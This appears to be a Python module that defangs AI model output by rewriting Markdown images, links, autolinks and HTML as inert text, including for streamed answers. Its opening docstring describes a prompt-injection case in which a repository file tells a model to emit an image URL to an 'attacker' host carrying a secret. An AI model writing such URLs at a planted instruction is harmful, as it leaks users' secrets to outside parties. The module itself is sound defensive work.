"""Model output made inert: an answer is data, and a repository file can instruct a model to write an
image whose URL carries a secret (`![](https://attacker/?q=...)`), which a Markdown renderer would fetch.

    defang_markdown(text)    images, links, autolinks and HTML shown as text with their target
    MarkdownStream()         the same for a stream of pieces, as they arrive (a renderer shows each prefix)

The text is read by the CommonMark parser (`markdown.py`), never by patterns of our own. A text whose prose
(what is not code) holds none of `](`, `]:`, `<`, `://`, `www.`, an e-mail address, `$` or a directive
cannot make a link, an image or HTML in a CommonMark or GFM renderer, nor in the page's (which adds math and
directives), and is returned exactly as written. Any other text is
written out again from the parse, node by node, from an allowlist: prose escaped so that it stays prose,
links and images as their text and target (`[image: alt] (`url`)`), raw HTML and bare URLs as code, and
code blocks fenced longer than anything inside them. Code is never changed.
"""

from __future__ import annotations

import re
import time
from typing import Callable, Iterable

from markdown_it.token import Token
from markdown_it.tree import SyntaxTreeNode

from .markdown import blank_code, code_regions, normalize_link_text, opens_with_definition, parse

# What can make a link, an image or HTML: an inline link or image, a definition, a tag or an <autolink>; what
# a GFM renderer (Streamlit's remark-gfm) links by itself: URLs, www. and e-mail addresses; and what the page's
# renderer reads beyond GFM, whose spans can swallow a code span's backtick and so turn its code into prose:
# math (`$`) and directives (`:red[...]`, `::name`).
_HAZARD = re.compile(r"\]\(|\]:|<|://|www\.|mailto:|xmpp:|[\w.+-]@[\w-]+\.\w|\$|:[A-Za-z][\w-]*[\[{]|::",
                     re.IGNORECASE)
_DIRECTIVE_NAME = re.compile(r":[A-Za-z][\w-]*")
_FOOTNOTE = re.compile(r"^\[\^[^\]\n]*\]:", re.MULTILINE)
_STEAL = re.compile(r"\$|:[A-Za-z][\w-]*[\[{]|^(?:[ \t]*(?:>|[-+*][ \t]|[0-9]{1,9}[.)][ \t]))*[ \t]*::", re.MULTILINE)
_ESCAPED = re.compile(r"\\[!-/:-@\[-`{-~]")
_LINKED_WORD = re.compile(r"://|www\.|mailto:|xmpp:|[\w.+-]@[\w-]+\.\w", re.IGNORECASE)
# the nodes a text returned as written may hold: no link, image or HTML among them
_AS_WRITTEN = frozenset("paragraph heading blockquote bullet_list ordered_list list_item fence code_block hr table "
                        "thead tbody tr th td inline text code_inline softbreak hardbreak em strong s".split())
_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_ENTITY = re.compile(r"&(?:#[0-9]{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
_LIST_NUMBER = re.compile(r"[0-9]{1,9}(?=[.)](?:[ \t]|$))")


def defang_markdown(text: str) -> str:
    """`text` with no image a renderer would fetch, no clickable link and no HTML; code untouched."""
    if not _HAZARD.search(text):
        return text  # no link, image or tag can be written without one of these, code or not: nothing to parse
    # where the code is, as a renderer reads the text: `[a`]: u` is a definition to it, not a code span
    seen = parse(text, definitions=True)
    if not _HAZARD.search(_prose(text, seen)) and _kinds(seen) <= _AS_WRITTEN:
        return text  # nothing here can link, fetch or make markup: the answer as the model wrote it
    tokens = parse(text) if "]:" in text else seen  # definitions are written out as text, never dropped
    written = _blocks(SyntaxTreeNode(tokens).children, tight=False)
    # read back as a renderer reads it; should writing it out ever have made markup, the text is shown as code
    return written if _inert(written) else _fence(text, "`", "")


def _prose(text: str, tokens: list[Token]) -> str:
    """`text` less its code; a code span holding `|` is not code to a GFM renderer reading its line as a table row."""
    return blank_code(text, regions=[c for c in code_regions(text, tokens)
                                     if c.kind != "inline" or "|" not in text[c.start:c.end]])


def _kinds(tokens: list[Token]) -> set[str]:
    return {t.type.removesuffix("_open").removesuffix("_close") for t in tokens} | {
        c.type.removesuffix("_open").removesuffix("_close") for t in tokens for c in t.children or ()}


def _inert(written: str) -> bool:
    """Whether `written` (escaped as defang writes) holds no definition, link, image, HTML, GFM autolink or
    footnote, and no unescaped math or directive in its prose."""
    env: dict = {}
    tokens = parse(written, definitions=True, env=env)
    if env.get("references") or not _kinds(tokens) <= _AS_WRITTEN:
        return False
    if any(c.type == "text" and _LINKED_WORD.search(c.content) for t in tokens for c in t.children or ()):
        return False
    if any(a.type == "paragraph_open" and _FOOTNOTE.search(b.content) for a, b in zip(tokens, tokens[1:])):
        return False
    # written out, a code span holds `|` only where no table can be: all code is code here
    prose = blank_code(written, regions=code_regions(written, tokens), fill="\0")  # not a line's indentation
    return not _STEAL.search(_ESCAPED.sub("\0\0", prose))


class MarkdownStream:
    """Defangs a stream: `feed(piece)` returns the whole text so far, defanged, for a renderer that shows
    each prefix. Every prefix is defanged as a whole text, so a link or image is inert from its first
    character on, and so is whatever a later piece turns it into.

    Parsing the whole text again for every piece costs more as the answer grows (tens of milliseconds at
    several thousand characters), so while the last parse is more recent than its own duration, `feed` shows
    that last (defanged, shorter) text again: the stream spends at most about half its time here."""

    def __init__(self, clock: Callable[[], float] = time.perf_counter):
        self.text = ""
        self._clock = clock
        self._shown: str | None = None
        self._ready_at = 0.0

    def feed(self, piece: str) -> str:
        self.text += piece
        started = self._clock()
        if self._shown is None or started >= self._ready_at:
            self._shown = defang_markdown(self.text)
            ended = self._clock()
            self._ready_at = ended + (ended - started)
        return self._shown


# ---- blocks: each written so that it parses back to itself, separated by blank lines ------------------------

def _blocks(nodes: Iterable[SyntaxTreeNode], tight: bool) -> str:
    out: list[str] = []
    for node in nodes:
        # a tight list item's text and its nested list stay together; anything else is its own block
        out.append(("\n" if tight and node.type in ("bullet_list", "ordered_list") else "\n\n") if out else "")
        out.append(_block(node, tight))
    return "".join(out)


def _block(node: SyntaxTreeNode, tight: bool) -> str:
    kind = node.type
    if kind == "paragraph":
        text = _inline(node.children[0]) if node.children else ""
        # a definition can open a paragraph only: `[` is escaped there when it would open one
        return "\\" + text if text.startswith("[") and opens_with_definition(text) else text
    if kind == "heading":
        return "#" * int(node.tag[1]) + " " + _inline(node.children[0], heading=True) if node.children else "#"
    if kind == "blockquote":
        inner = _blocks(node.children, tight=False)
        return "\n".join("> " + line if line else ">" for line in inner.split("\n"))
    if kind in ("bullet_list", "ordered_list"):
        return _list(node)
    if kind in ("fence", "code_block", "html_block"):
        info = re.match(r"[\w+#.-]*", node.info.strip()).group(0) if kind == "fence" else (
            "html" if kind == "html_block" else "")
        return _fence(node.content, "~" if node.markup.startswith("~") else "`", info)
    if kind == "hr":
        return "---"
    if kind == "table":
        return _table(node)
    # not on the allowlist: its text, as text
    return _fence(node.content, "`", "") if node.content else _blocks(node.children, tight)


def _list(node: SyntaxTreeNode) -> str:
    tight = all(p.hidden for item in node.children for p in item.children if p.type == "paragraph")
    items = []
    for item in node.children:
        marker = f"{item.info or '1'}{item.markup or '.'}" if node.type == "ordered_list" else (node.markup or "-")
        body = _blocks(item.children, tight)
        lines = body.split("\n") if body else []
        indent = " " * (len(marker) + 1)
        head = f"{marker} {lines[0]}" if lines and lines[0] else marker
        items.append("\n".join([head] + [indent + line if line else "" for line in lines[1:]]))
    return ("\n" if tight else "\n\n").join(items)


def _fence(content: str, char: str, info: str) -> str:
    longest = max((len(run) for run in re.findall(re.escape(char) + "+", content)), default=0)
    fence = char * max(3, longest + 1)  # no line inside can close it
    body = content if not content or content.endswith("\n") else content + "\n"
    return f"{fence}{info}\n{body}{fence}"


def _table(node: SyntaxTreeNode) -> str:
    rows = [row for part in node.children for row in part.children]
    lines = []
    for n, row in enumerate(rows):
        cells = [_inline(cell.children[0], table=True) if cell.children else "" for cell in row.children]
        lines.append("| " + " | ".join(cells) + " |")
        if n == 0:
            aligns = [(cell.attrs.get("style") or "").removeprefix("text-align:") for cell in row.children]
            lines.append("| " + " | ".join({"left": ":--", "right": "--:", "center": ":-:"}.get(a, "---")
                                            for a in aligns) + " |")
    return "\n".join(lines)


# ---- inline: prose escaped so that it stays prose; code spans kept; links and images as text ------------------

def _inline(node: SyntaxTreeNode, heading: bool = False, table: bool = False) -> str:
    pieces: list[tuple[str, str]] = []  # ("text", raw prose) | ("code", content) | ("markup", as written)
    _pieces(node.children, pieces, heading or table)
    written = _join(pieces, table, line_start=not (heading or table))
    return written[:-1] + "\\#" if heading and written.endswith("#") else written  # else a closing sequence, dropped


def _pieces(nodes: Iterable[SyntaxTreeNode], out: list[tuple[str, str]], one_line: bool,
            struck: bool = False) -> None:
    for node in nodes:
        kind = node.type
        if kind == "text":
            out.append(("text", node.content))
        elif kind == "code_inline":
            out.append(("code", node.content))
        elif kind == "html_inline":
            out.append(("code", node.content))  # a tag is shown, never made
        elif kind == "softbreak":
            out.append(("text", " ") if one_line else ("break", "\n"))
        elif kind == "hardbreak":
            out.append(("text", " ") if one_line else ("break", "\\\n"))
        elif kind == "s" and struck:  # `~~~~` would open a fence at a line's start; struck twice looks the same
            _pieces(node.children, out, one_line, struck)
        elif kind in ("em", "strong", "s"):
            out.append(("delimiter", node.markup))
            _pieces(node.children, out, one_line, struck or kind == "s")
            out.append(("delimiter", node.markup))
        elif kind == "link" and node.markup == "autolink":
            out.append(("code", _plain(node.children)))
        elif kind == "link":
            _pieces(node.children, out, one_line, struck)
            out += [("text", " ("), ("code", normalize_link_text(str(node.attrs.get("href", "")))), ("text", ")")]
        elif kind == "image":
            alt = _plain(node.children) or "no text"
            out += [("markup", "[image: "), ("alt", alt), ("markup", "] ("),
                    ("code", normalize_link_text(str(node.attrs.get("src", "")))), ("text", ")")]
        else:  # not on the allowlist: its text, as text
            out.append(("text", node.content or _plain(node.children)))


def _plain(nodes: Iterable[SyntaxTreeNode]) -> str:
    return "".join(n.content if n.type in ("text", "code_inline", "html_inline") else
                   " " if n.type in ("softbreak", "hardbreak") else _plain(n.children) for n in nodes)


def _join(pieces: list[tuple[str, str]], table: bool, line_start: bool) -> str:
    # prose that a GFM renderer would link by itself (a URL, www., an e-mail address) becomes code, word by word
    split: list[tuple[str, str]] = []
    for kind, value in pieces:
        if kind not in ("text", "alt"):
            split.append((kind, value))
            continue
        value = value.replace("\r", " ").replace("\n", " ")
        pos = 0
        for word in re.finditer(r"[^\s|]+" if table else r"\S+", value):
            if _LINKED_WORD.search(word.group(0)):
                split += [(kind, value[pos:word.start()]), ("code", word.group(0))]
                pos = word.end()
        split.append((kind, value[pos:]))
    followers, following = [], ""
    for kind, value in reversed(split):  # what comes after each piece: the first character the next one writes
        followers.append(following)
        following = ("`" if kind == "code" else value[:1]) if value else following
    out: list[str] = []
    for (kind, value), following in zip(split, reversed(followers)):
        if kind in ("text", "alt"):
            if line_start:
                value = value.lstrip(" \t")  # leading spaces would make an indented block of a line
            if not value:
                continue
            out.append(_escape(value, line_start, following, brackets=kind == "alt"))
        elif kind == "code":
            if out and out[-1].endswith("`"):
                out.append(" ")  # two spans side by side would read as one unmatched run
            out.append(_code(value, table))
        else:
            out.append(value)
        # after an emphasis mark a line still starts: `*` then `- x` would open a list item
        line_start = kind == "break" or (line_start and kind == "delimiter")
    return "".join(out)


def _code(content: str, table: bool) -> str:
    """A code span showing `content`; in a table cell a pipe would end the cell, so it stands between spans."""
    content = content.replace("\r", " ").replace("\n", " ")
    if table and "|" in content:
        return "\\|".join(_code(part, False) if part else "" for part in content.split("|"))
    if not content:
        return ""
    longest = max((len(run) for run in re.findall("`+", content)), default=0)
    ticks = "`" * (longest + 1)
    pad = " " if content[0] == "`" or content[-1] == "`" or (
        content[0] == " " and content[-1] == " " and content.strip(" ")) else ""
    return f"{ticks}{pad}{content}{pad}{ticks}"


def _escape(text: str, line_start: bool, following: str, brackets: bool) -> str:
    """`text` written so that it parses as that text and nothing else. Escaped: what opens code, emphasis,
    strikethrough, a table cell, a tag, an autolink, math or a directive anywhere; a `]` before `(` (a link);
    at a line's start, what opens a block (a heading, quote, list, fence, rule, footnote, directive or setext
    underline)."""
    out = []
    for i, ch in enumerate(text):
        after = text[i + 1] if i + 1 < len(text) else ""  # at the end: the next piece may start with anything
        if ch == "\\":
            escape = after == "" or after in _PUNCTUATION
        elif ch in "`*|~$":
            escape = True
        elif ch == "<":
            escape = after != " "
        elif ch in "[]":
            # a GFM footnote definition (`[^1]: note`) may open any line, and holds a link back
            escape = brackets or (ch == "]" and (after or following[:1]) == "(") or (
                i == 0 and line_start and after == "^")
        elif ch == "&":
            escape = bool(_ENTITY.match(text, i))
        elif ch == ":":  # `:name[`, its bracket (or more of its name) perhaps the next piece's
            name = _DIRECTIVE_NAME.match(text, i)
            bracket = (text[name.end():] or following)[:1] if name else ""
            escape = (i == 0 and line_start) or bool(bracket) and (bracket in "[{_-" or bracket.isalnum())
        elif i == 0 and line_start:
            escape = ch in "#>-+=_"
        else:
            escape = False
        out.append("\\" + ch if escape else ch)
    written = "".join(out)
    number = _LIST_NUMBER.match(written) if line_start else None
    if number:  # `1.` or `1)` opens an ordered list
        written = written[:number.end()] + "\\" + written[number.end():]
    return written


__all__ = ["defang_markdown", "MarkdownStream"]
